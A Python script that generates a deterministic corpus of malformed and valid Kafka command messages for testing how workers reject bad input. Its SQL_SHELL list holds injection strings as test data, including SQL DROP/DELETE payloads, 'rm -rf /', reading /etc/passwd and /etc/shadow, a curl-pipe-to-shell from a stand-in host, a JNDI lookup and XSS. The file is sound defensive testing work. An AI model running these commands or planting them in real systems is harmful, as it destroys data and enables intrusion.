#!/usr/bin/env python3
"""Generates Tests/Corpus/bad-input.ndjson: bad messages interleaved with valid ones.

Deterministic (fixed seed): run it again and the file does not change. Standard library only.

    python3 Tests/Corpus/generate-bad-input.py            # rewrite the corpus
    python3 Tests/Corpus/generate-bad-input.py --check    # exit 1 if the committed file is stale

Each line is one Kafka message to publish raw on the commands topic:

    {"n": 17, "kind": "truncated", "expect": "dead", "key": "case-..." | null,
     "headers": [["name", "value"], ...], "value": "..." | "value_b64": "..."}

expect is what the workers must answer:
    processed  a valid command: it gets an outcome (accepted, or rejected for a business reason)
    dead       dead-lettered with a reason (the test checks the reason code against the decoder)
    conflict   an id already used for another payload: rejected as command.id-conflict
Valid messages come from Schemas/examples (each type's valid examples and the demo scenario), with
fresh ids and subjects. The 10 MB bodies are not stored here: the corpus test builds them at run time.
"""

import base64
import copy
import json
import random
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "Schemas" / "examples"
OUT = Path(__file__).resolve().parent / "bad-input.ndjson"
rng = random.Random(20260601)


def compact(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def load_examples():
    valid = []
    for folder in sorted(p for p in EXAMPLES.iterdir() if p.is_dir()):
        for f in sorted(folder.glob("valid-*.json")):
            valid.append(json.loads(f.read_text(encoding="utf-8")))
    return valid


def load_scenario():
    lines = (EXAMPLES / "demo-scenario.ndjson").read_text(encoding="utf-8").splitlines()
    return [json.loads(line) for line in lines if line.strip()]


EXAMPLE_MESSAGES = load_examples()
SCENARIO = load_scenario()
entries = []
valid_pool = []  # (message, key) of valid messages already emitted, for duplicates and mutations


def emit(kind, expect, value, key=None, headers=None):
    if isinstance(value, (dict, list)):
        value = compact(value)
    if isinstance(value, str):
        value = value.encode("utf-8", "surrogatepass")
    entry = {"n": len(entries) + 1, "kind": kind, "expect": expect, "key": key, "headers": headers or []}
    try:
        text = value.decode("utf-8")
        entry["value"] = text
    except UnicodeDecodeError:
        entry["value_b64"] = base64.b64encode(value).decode("ascii")
    entries.append(entry)


serial = 0


def fresh(message, group=None):
    """The message with a new id and a subject of its own (or of a group, so that a few follow each other)."""
    global serial
    serial += 1
    m = copy.deepcopy(message)
    m["id"] = f"bi-{serial:05d}"
    if group is not None:
        m["subject"] = f"{message['subject']}-g{group}"
    else:
        m["subject"] = f"{message['subject']}-s{serial}"
    return m


def valid_example():
    m = fresh(rng.choice(EXAMPLE_MESSAGES), group=rng.randrange(12))
    valid_pool.append(m)
    return m


def emit_valid(kind="valid/example", m=None, key="subject", headers=None):
    m = m or valid_example()
    emit(kind, "processed", m, key=m["subject"] if key == "subject" else key, headers=headers)


def scenario_copy(copy_index):
    """The whole demo scenario with every subject and id suffixed: a realistic flow, mostly accepted."""
    subjects = sorted({m["subject"] for m in SCENARIO}, key=len, reverse=True)
    out = []
    for m in SCENARIO:
        text = compact(m)
        for s in subjects:
            text = text.replace(f'"{s}"', f'"{s}-d{copy_index}"')
        m2 = json.loads(text)
        m2["id"] = f"{m['id']}-d{copy_index}"
        out.append(m2)
    return out


def mutated(mutate):
    m = copy.deepcopy(valid_example())
    valid_pool.pop()
    m["id"] = m["id"] + "-x"
    mutate(m)
    return m


# ---- the bad kinds ----------------------------------------------------------------------------------

NOT_JSON = [
    "", " ", "\n", "this is not json", "null", "true", "42", "-0", '"a string"', "[]", "[{}]", "{}",
    "<command><id>1</id></command>", "id: 1\ntype: suivi.command.RequestAssistance\n", "{'id': 'single-quotes'}",
    "{\"id\": \"x\",}", "{\"id\" \"x\"}", "{\"id\": 01}", "{\"id\": NaN}", "{\"id\": Infinity}", "{\"a\": .5}",
    "{\"a\": \"\\x41\"}", "{\"a\": \"\\u12\"}", "{\"a\": \"tab\there\"}", "/* comment */ {}", "{} {}", "{}}", "{{}",
    "\u00ef\u00bb\u00bf{}", "SELECT * FROM suivi.events;", "$(reboot)", "%PDF-1.4", "\x00\x00\x00\x00",
]
BINARY = [bytes([0xFF, 0xFE, 0x00]), bytes(range(256)), b"\xc0\xaf", b"{\"a\":\"\xed\xa0\x80\"}",
          b"\xef\xbb\xbf{\"id\":\"bom\"}", b"\x1f\x8b\x08\x00\x00\x00\x00\x00", b"{\"a\":\"\xf8\x88\x80\x80\x80\"}"]
ENVELOPE_FIELDS = ["specversion", "id", "source", "type", "subject", "time", "actor", "actorrole", "data"]
MISTYPES = [None, 0, 1.5, -1, True, [], {}, [1, 2], {"a": 1}, ""]
BAD_DATES = ["2026-02-30T10:00:00Z", "2026-13-01T00:00:00Z", "2026-01-12T25:00:00Z", "2026-01-12T10:60:00Z",
             "2026-01-12", "12/01/2026", "yesterday", "", "2026-01-12T10:00:00", "2026-01-12 10:00:00Z",
             "0000-00-00T00:00:00Z", "99999-01-01T00:00:00Z", "2026-01-12T10:00:00+25:00", "2026-W02-1",
             "２０２６-01-12T10:00:00Z", "2026-01-12T10:00:00.Z"]
BAD_COUNTRIES = ["tgo", "TG", "TOGO", "T1O", "123", "", "ТGO", "T G", "T\u0000G", "TGO ", " TGO", "Tgo", "ＴＧＯ"]
SQL_SHELL = ["'; DROP TABLE suivi.events; --", "\" OR 1=1 --", "Robert'); DELETE FROM suivi.outcomes;--",
             "$(rm -rf /)", "`reboot`", "| cat /etc/passwd", "; shutdown -h now", "&& curl http://x.invalid | sh",
             "%s%s%s%n", "{{7*7}}", "${jndi:ldap://x.invalid/a}", "../../../../etc/shadow", "\\\\server\\share",
             "<script>alert(1)</script>", "' UNION SELECT hash FROM suivi.events --", "$$; COPY x FROM PROGRAM 'id'; $$"]
ODD_TEXT = ["\u202eevil\u202c", "zero\u200bwidth\u200djoin", "e\u0301\u0301\u0301", "\U0001F600\U0001F3F3\uFE0F\u200D\U0001F308",
            "\uFFFD\uFFFE\uFFFF", "\U0010FFFF", "Ǆǅǆ ﬁ ẞ", "\u00a0\u2028\u2029", "مرحبا", "日本語のテキスト", "A" * 5000,
            "tab\tnew\nline\rcr", "\u0007bell\u001b[31mred", "\u0085next-line"]
NUL_TEXT = ["nul\u0000inside", "\u0000", "trailing\u0000"]


def free_text_fields(m):
    """Top-level free-text places a command has (envelope source and actor; data strings that are not ids)."""
    return ["actor", "source", "onbehalfof"]


def set_path(m, path, value):
    cur = m
    for p in path[:-1]:
        cur = cur[p]
    cur[path[-1]] = value


def string_paths(obj, prefix=()):
    if isinstance(obj, dict):
        for k, v in obj.items():
            yield from string_paths(v, prefix + (k,))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from string_paths(v, prefix + (i,))
    elif isinstance(obj, str):
        yield prefix


def date_paths(obj):
    for p in string_paths(obj):
        v = obj
        for k in p:
            v = v[k]
        if len(v) >= 10 and v[4:5] == "-" and v[7:8] == "-" and v[:4].isdigit():
            yield p


def bad_generators():
    yield lambda: emit("not-json", "dead", rng.choice(NOT_JSON), key="case-x")
    yield lambda: emit("not-json/binary", "dead", rng.choice(BINARY), key="case-x")

    def truncated():
        text = compact(valid_example()).encode("utf-8")
        valid_pool.pop()
        cut = rng.randrange(1, len(text) - 1)
        emit("truncated", "dead", text[:cut], key="case-x")
    yield truncated

    def unknown_type():
        t = rng.choice(["suivi.command.LaunchRocket", "suivi.command.requestassistance", "RequestAssistance", "",
                        "suivi.event.AssistanceRequested", "suivi.command.RequestAssistance ", 42, None, ["x"]])
        m = mutated(lambda m: m.__setitem__("type", t))
        emit("unknown-type", "dead", m, key=m["subject"])
    yield unknown_type

    def specversion():
        v = rng.choice(["0.3", "1.1", "2.0", "1", "", 1.0, 1, None, "1.0 "])
        m = mutated(lambda m: m.__setitem__("specversion", v))
        emit("wrong-specversion", "dead", m, key=m["subject"])
    yield specversion

    def missing_envelope():
        f = rng.choice(ENVELOPE_FIELDS)
        m = mutated(lambda m: m.pop(f, None))
        emit(f"missing/{f}", "dead", m, key=m.get("subject", "case-x"))
    yield missing_envelope

    def missing_data_field():
        def drop(m):
            if m["data"]:
                m["data"].pop(rng.choice(sorted(m["data"])))
        m = mutated(drop)
        # Some data members are optional: only those dropped whose absence the schema refuses are "dead";
        # the test classifies the rest by decoding them, as the decider does.
        emit("missing/data-member", "decoder", m, key=m["subject"])
    yield missing_data_field

    def mistyped_envelope():
        f = rng.choice(ENVELOPE_FIELDS + ["datacontenttype", "onbehalfof", "dataschema"])
        v = rng.choice(MISTYPES)
        m = mutated(lambda m: m.__setitem__(f, v))
        emit(f"mistyped/{f}", "dead", m, key=m["subject"] if isinstance(m["subject"], str) else "case-x")
    yield mistyped_envelope

    def mistyped_data():
        def change(m):
            paths = [p for p in string_paths(m["data"])]
            if paths:
                set_path(m["data"], rng.choice(paths), rng.choice([0, True, None, [], {}, 3.25]))
        m = mutated(change)
        emit("mistyped/data-member", "dead", m, key=m["subject"])
    yield mistyped_data

    def unknown_member():
        m = mutated(lambda m: m.__setitem__(rng.choice(["extra", "ID", "Type", "__proto__", "constructor"]), "x"))
        emit("unknown-member", "dead", m, key=m["subject"])
    yield unknown_member

    def bad_country():
        base = fresh(next(e for e in EXAMPLE_MESSAGES if e["type"].endswith("RequestAssistance")))
        base["data"]["state"] = rng.choice(BAD_COUNTRIES)
        emit("invalid-country", "dead", base, key=base["subject"])
    yield bad_country

    def bad_date():
        def change(m):
            paths = list(date_paths(m["data"]))
            if paths and rng.random() < 0.6:
                set_path(m["data"], rng.choice(paths), rng.choice(BAD_DATES))
            else:
                m["time"] = rng.choice(BAD_DATES)
        m = mutated(change)
        emit("invalid-date", "dead", m, key=m["subject"])
    yield bad_date

    def metachar_in_free_text():
        # Valid: free text may hold anything printable. It must be stored verbatim and harm nothing.
        m = valid_example()
        m[rng.choice(free_text_fields(m))] = rng.choice(SQL_SHELL)[:200]
        emit("metachar/free-text", "processed", m, key=m["subject"])
    yield metachar_in_free_text

    def metachar_in_ids():
        def change(m):
            f = rng.choice(["id", "subject"])
            m[f] = rng.choice(SQL_SHELL)
        m = mutated(change)
        emit("metachar/identifier", "dead", m, key=m["subject"])
    yield metachar_in_ids

    def odd_unicode():
        m = valid_example()
        m["actor"] = rng.choice(ODD_TEXT)[:200]
        emit("unicode/free-text", "processed", m, key=m["subject"])
    yield odd_unicode

    def nul_in_text():
        # Escaped NUL is valid JSON but cannot be stored in a PostgreSQL text column: it must be refused
        # by the decoder rather than fail a batch.
        m = mutated(lambda m: m.__setitem__(rng.choice(["actor", "source"]), rng.choice(NUL_TEXT)))
        emit("control/escaped-nul", "decoder", m, key=m["subject"])
    yield nul_in_text

    def raw_control():
        text = compact(valid_example())
        valid_pool.pop()
        at = text.index('"actor":"') + len('"actor":"')
        ch = chr(rng.choice([0, 1, 7, 8, 9, 10, 13, 27, 31]))
        emit("control/raw-in-string", "dead", text[:at] + ch + text[at:], key="case-x")
    yield raw_control

    def unicode_identifier():
        m = mutated(lambda m: m.__setitem__("subject", rng.choice(["case-ТGO", "case\u200b1", "cas\u00e9-1", "case 1", "-case"])))
        emit("unicode/identifier", "dead", m, key=m["subject"])
    yield unicode_identifier

    def duplicate_id_other_payload():
        if not valid_pool:
            return
        original = rng.choice(valid_pool[: max(1, len(valid_pool) - 20)])
        m = copy.deepcopy(original)
        m["source"] = m["source"] + ":tampered"
        emit("duplicate-id/other-payload", "conflict", m, key=m["subject"])
    yield duplicate_id_other_payload

    def duplicate_json_member():
        m = valid_example()
        valid_pool.pop()
        text = compact(m)
        text = text[:-1] + ',"id":"bi-other"}'
        emit("duplicate-member", "dead", text, key=m["subject"])
    yield duplicate_json_member

    def key_mismatch():
        m = valid_example()
        valid_pool.pop()
        key = rng.choice(["case-other", m["subject"].upper(), m["subject"] + " ", "\u0000"])
        emit("key-mismatch", "dead", m, key=key)
    yield key_mismatch

    def wrong_headers_valid_body():
        # Structured mode (no content-type, a JSON envelope): the body is the contract and other headers are
        # ignored, so a valid body is processed. A content-type that is not application/cloudevents* says
        # binary mode (the CloudEvents Kafka binding): the envelope is then taken as data, and refused.
        headers = rng.choice([
            [["content-type", "application/xml"]], [["ce_specversion", "0.3"], ["ce_type", "suivi.command.LaunchRocket"]],
            [["ce_id", "another-id"]], [["\u0000", "\u0000"]], [["x" * 300, "y" * 3000]], [["suivi.reason.code", "syntax"]],
        ])
        if headers[0][0] == "content-type":
            m = valid_example()
            emit("wrong-headers/binary-content-type", "dead", m, key=m["subject"], headers=headers)
        else:
            emit_valid("wrong-headers/valid-body", headers=headers)
    yield wrong_headers_valid_body

    def binary_mode():
        # CloudEvents binary mode with the content type as a ce_datacontenttype header: the binding carries it
        # in content-type, so the message is refused (a correct binary message is in the conformance tests).
        m = valid_example()
        valid_pool.pop()
        headers = [[f"ce_{k}", str(v)] for k, v in m.items() if k != "data"]
        emit("wrong-headers/binary-mode", "dead", m["data"], key=m["subject"], headers=headers)
    yield binary_mode

    def deep_nesting():
        depth = rng.choice([200, 1000, 20_000])
        emit("deep-nesting", "dead", "[" * depth + "]" * depth, key="case-x")
    yield deep_nesting

    def big_numbers():
        text = compact(valid_example())
        valid_pool.pop()
        text = text.replace('"specversion":"1.0"', '"specversion":' + rng.choice(["1e400", "-1e-400", "9" * 400, "1.0"]))
        emit("number/extreme", "dead", text, key="case-x")
    yield big_numbers

    def long_strings():
        f = rng.choice(["id", "subject", "source", "actor"])
        m = mutated(lambda m: m.__setitem__(f, "a" * rng.choice([129, 501, 4096, 20_000])))
        emit(f"too-long/{f}", "dead", m, key="case-x")
    yield long_strings


def main():
    generators = list(bad_generators())
    scenario_copies = 0
    while len(entries) < 1400:
        r = rng.random()
        if r < 0.012:
            for m in scenario_copy(scenario_copies):
                emit("valid/scenario", "processed", m, key=m["subject"])
            scenario_copies += 1
        elif r < 0.30:
            emit_valid()
        else:
            rng.choice(generators)()
    body = "".join(json.dumps(e, ensure_ascii=True, separators=(",", ":")) + "\n" for e in entries)
    if "--check" in sys.argv:
        if OUT.read_text() != body:
            print(f"{OUT} is stale: run {Path(__file__).name}", file=sys.stderr)
            sys.exit(1)
        return
    OUT.write_text(body)
    kinds = {}
    for e in entries:
        kinds[e["expect"]] = kinds.get(e["expect"], 0) + 1
    print(f"{len(entries)} messages ({kinds}) -> {OUT.relative_to(ROOT)} ({len(body) // 1024} KiB)", file=sys.stderr)


main()
